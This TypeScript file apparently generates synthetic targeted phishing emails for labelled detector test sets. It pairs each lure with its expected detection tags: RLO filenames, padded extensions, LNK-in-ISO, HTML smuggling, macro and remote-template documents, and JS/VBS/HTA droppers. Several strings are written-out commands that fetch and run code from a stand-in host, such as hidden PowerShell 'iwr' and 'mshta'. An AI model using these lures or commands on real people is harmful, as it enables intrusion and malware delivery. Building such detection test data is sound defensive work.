/** Targeted mail (標的型): each trick of the field, aimed at people of ours. What it carries never runs. */
import type { Random } from '../random.ts'
import { type Matter, TYPES } from './business.ts'
import { abusedAccount, link, lookalike, ownName, type Targeted } from './impersonating.ts'
import type { MailSet } from './labelled.ts'
import type { Letter, Sent } from './letter.ts'
import { downloader, excel, word } from './office.ts'
import { password } from './ordinary.ts'
import { program } from './pe.ts'
import { type Aim, archive, ENCRYPTED, reworked, stub } from './reworked.ts'
import { diskImage, shortcut, smuggling } from './shell-files.ts'
import { zip } from './zip.ts'

function attached(
  set: MailSet,
  aim: Aim,
  play: string,
  why: string,
  expected: string[],
  random: Random,
  build: (about: Matter) => { files: Letter['attachments']; say?: string[] },
): Sent {
  const { from, about, text } = lookalike(set, aim, random)
  const { files, say } = build(about)
  return set.attack(
    play,
    '標的型',
    { from, to: [aim.victim], subject: about.subject, text: text(say ?? []), attachments: files, time: aim.time },
    `${why}（取引先に似たドメイン ${from.company.domain} から）`,
    expected,
  )
}

const rightToLeft: Targeted = (set, aim, random) =>
  attached(
    set,
    aim,
    'rlo-exe',
    'RLOで拡張子を逆に見せた実行ファイル',
    ['bidi-filename', ...ENCRYPTED],
    random,
    ({ stem }) => {
      const word = password(random)
      const file = {
        name: `${stem}\u202e${random.pick(['cod', 'fdp', 'slx'])}.${random.pick(['exe', 'scr'])}`,
        content: stub(random, 'word'),
      }
      return {
        files: [archive('資料.zip', zip([file], { password: word, random }))],
        say: ['', `解凍パスワードは「${word}」です。`],
      }
    },
  )

const padded: Targeted = (set, aim, random) =>
  attached(
    set,
    aim,
    'padded-exe',
    '多数の空白で拡張子を画面の外に出した実行ファイル（PDFのアイコン）',
    ['executable-attachment', 'double-extension', 'disguised-icon'],
    random,
    ({ stem }) => ({
      files: [
        archive(
          `${stem}.zip`,
          zip([{ name: `${stem}.pdf${' '.repeat(random.whole(40, 90))}.exe`, content: stub(random, 'pdf') }]),
        ),
      ],
    }),
  )

const shortcutImage: Targeted = (set, aim, random) =>
  attached(
    set,
    aim,
    'lnk-iso',
    'ディスクイメージの中のショートカットがPowerShellを呼ぶ',
    ['disk-image', 'shortcut-attachment'],
    random,
    ({ stem }) => {
      const link = shortcut(
        '..\\..\\..\\Windows\\System32\\cmd.exe',
        `/c powershell -w hidden -nop -c "iwr https://${aim.place}/a -o $env:temp\\a.ps1; rundll32 msedge.dll,Start"`,
        '%ProgramFiles%\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      )
      const image = diskImage(
        [
          { name: `${stem}.docx.lnk`, content: link },
          { name: 'msedge.dll', content: program({ exports: ['Start'] }), hidden: true },
        ],
        'DOCUMENTS',
      )
      return random.next() < 0.5
        ? { files: [{ name: `${stem}.iso`, content: image, type: 'application/octet-stream' }] }
        : { files: [archive(`${stem}.zip`, zip([{ name: `${stem}.iso`, content: image }]))] }
    },
  )

const shortcutZip: Targeted = (set, aim, random) =>
  attached(
    set,
    aim,
    'lnk-zip',
    '暗号化ZIPの中のショートカットがmshtaを呼ぶ',
    ['shortcut-attachment', ...ENCRYPTED],
    random,
    ({ stem }) => {
      const word = password(random)
      const link = shortcut(
        'C:\\Windows\\System32\\mshta.exe',
        `https://${aim.place}/${random.whole(10, 99)}.hta`,
        '%SystemRoot%\\System32\\shell32.dll',
      )
      return {
        files: [
          archive(
            `${stem}.zip`,
            zip([{ name: `${stem}.pdf.lnk`, content: link }], { password: word, random, cipher: 'aes' }),
          ),
        ],
        say: ['', `パスワード: ${word}`],
      }
    },
  )

const macro: Targeted = (set, aim, random) =>
  attached(set, aim, 'macro', '開くと外部から取得して実行するマクロ', ['macro-document'], random, ({ stem }) => {
    const url = `http://${aim.place}/${random.whole(100, 999)}/upd.dat`
    return random.next() < 0.5
      ? {
          files: [
            {
              name: `${stem}.docm`,
              content: word([stem], { macros: downloader(url, 'Document_Open') }),
              type: TYPES.docm ?? '',
            },
          ],
        }
      : {
          files: [
            {
              name: `${stem}.xlsm`,
              content: excel([[stem]], { macros: downloader(url, 'Workbook_Open') }),
              type: TYPES.xlsm ?? '',
            },
          ],
        }
  })

const template: Targeted = (set, aim, random) =>
  attached(
    set,
    aim,
    'remote-template',
    '外部のテンプレートを読み込む文書',
    ['macro-document'],
    random,
    ({ stem, lines }) => ({
      files: [
        {
          name: `${stem}.docx`,
          content: word([stem, ...lines], { template: `https://${aim.place}/tpl/${random.whole(100, 999)}.dotm` }),
          type: TYPES.docx ?? '',
        },
      ],
    }),
  )

const addin: Targeted = (set, aim, random) =>
  attached(set, aim, 'xll', 'Excelアドイン（XLL）', ['excel-addin'], random, ({ stem }) => {
    const file = { name: `${stem}.xll`, content: program({ exports: ['xlAutoOpen', 'xlAutoClose'] }) }
    return {
      files:
        random.next() < 0.5 ? [{ ...file, type: 'application/octet-stream' }] : [archive(`${stem}.zip`, zip([file]))],
    }
  })

const smuggled: Targeted = (set, aim, random) =>
  attached(set, aim, 'html-smuggling', 'HTMLの中からZIPを取り出させる', ['html-smuggling'], random, ({ stem }) => {
    const inner = zip([
      {
        name: `${stem}.iso`,
        content: diskImage([
          {
            name: `${stem}.lnk`,
            content: shortcut('C:\\Windows\\System32\\cmd.exe', `/c start https://${aim.place}/`),
          },
        ]),
      },
    ])
    return {
      files: [
        { name: `${stem}.html`, content: smuggling(`${stem}.zip`, inner, random.whole(0, 1)), type: 'text/html' },
      ],
    }
  })

const script: Targeted = (set, aim, random) =>
  attached(set, aim, 'script-zip', '暗号化ZIPの中のスクリプト', ENCRYPTED, random, ({ stem }) => {
    const word = password(random)
    const [name, text] = random.pick([
      [
        `${stem}.js`,
        `var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w hidden iwr https://${aim.place}/x");`,
      ],
      [`${stem}.pdf.vbs`, `CreateObject("WScript.Shell").Run "mshta https://${aim.place}/x", 0`],
      [
        `${stem}.hta`,
        `<html><script language="VBScript">CreateObject("WScript.Shell").Run "cmd /c start https://${aim.place}/x",0</script></html>`,
      ],
    ] as const)
    return {
      files: [archive(`${stem}.zip`, zip([{ name, content: Buffer.from(text) }], { password: word, random }))],
      say: ['', `パスワードは ${word} となります。`],
    }
  })

export const TARGETED: Targeted[] = [
  (set, aim, random) => reworked(set, aim, random),
  rightToLeft,
  padded,
  shortcutImage,
  shortcutZip,
  macro,
  template,
  addin,
  smuggled,
  script,
  link,
  abusedAccount,
  ownName,
]
